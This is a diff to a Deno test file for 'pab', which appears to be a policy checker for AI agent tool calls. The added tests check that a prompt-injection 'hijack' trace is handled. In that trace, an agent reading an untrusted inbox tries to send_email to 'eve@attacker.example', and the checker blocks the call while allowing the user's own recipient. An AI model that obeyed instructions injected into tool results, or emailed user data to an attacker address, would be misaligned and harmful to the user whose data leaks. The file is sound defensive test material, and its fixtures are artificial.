@@ -28,6 +28,7 @@ BLOCK   traces/examples/hijack.openai.json#call_send_eve send_email(to='eve@atta
   way to yes: none in this policy: [untrusted-argument] no approver's mandate covers [untrusted-argument]
 CONFIRM traces/examples/hijack.openai.json#call_send_alice send_email(to='alice@corp.example', subject='Inbox summary', body='Summary of your inbox: Bob says the Q3 report is final (r...')
   - [tainted-context] context contains untrusted input from tool:read_inbox
+  + to='alice@corp.example' comes from user
   way to yes: confirm with the user (covers tainted-context)
 3 calls in 1 trace: 1 allowed, 1 to confirm, 1 blocked
 `;
@@ -35,6 +36,31 @@ CONFIRM traces/examples/hijack.openai.json#call_send_alice send_email(to='alice@
 Deno.test("pab check blocks the hijacked send_email and asks to confirm the legitimate one", async () => {
   const result = await pab(["check", "--policy", POLICY, OPENAI]);
   assert.deepEqual(result, { code: 1, stdout: HIJACK_TEXT, stderr: "" });
+});
+
+Deno.test("pab check under a provenance-only policy blocks the hijack and allows the user's own recipient", async () => {
+  const policy = "traces/examples/provenance.policy.yaml";
+  const files = { [policy]: await Deno.readTextFile(new URL(policy, ROOT)) };
+  const result = await pab(["check", "--policy", policy, OPENAI], { files });
+  assert.equal(result.code, 1);
+  assert.equal(result.stderr, "");
+  const lines = result.stdout.split("\n");
+  assert.match(
+    lines[1],
+    /^BLOCK   traces\/examples\/hijack\.openai\.json#call_send_eve send_email\(to='eve@attacker\.example'/,
+  );
+  assert.equal(
+    lines[2],
+    "  - [untrusted-argument] to='eve@attacker.example' appears only in untrusted input from tool:read_inbox",
+  );
+  assert.match(
+    lines[4],
+    /^ALLOW   traces\/examples\/hijack\.openai\.json#call_send_alice send_email\(to='alice@corp\.example'/,
+  );
+  assert.equal(lines.at(-2), "3 calls in 1 trace: 2 allowed, 1 blocked");
+  const json = await pab(["check", "--json", "--policy", policy, OPENAI], { files });
+  const calls = JSON.parse(json.stdout).calls;
+  assert.deepEqual(calls.map((call: { decision: string }) => call.decision), ["allow", "block", "allow"]);
 });
 
 Deno.test("pab check --json prints the decisions keyed by each tool call's id", async () => {
@@ -116,7 +142,9 @@ Deno.test("pab check exits 0 when every call is allowed", async () => {
   const result = await pab(["check", "--policy", POLICY, "clean.jsonl"], { files: { "clean.jsonl": trace } });
   assert.deepEqual(result, {
     code: 0,
-    stdout: "ALLOW   clean#1 send_email(to='alice@corp.example')\n1 call in 1 trace: 1 allowed\n",
+    stdout: "ALLOW   clean#1 send_email(to='alice@corp.example')\n" +
+      "  + to='alice@corp.example' comes from user\n" +
+      "1 call in 1 trace: 1 allowed\n",
     stderr: "",
   });
 });
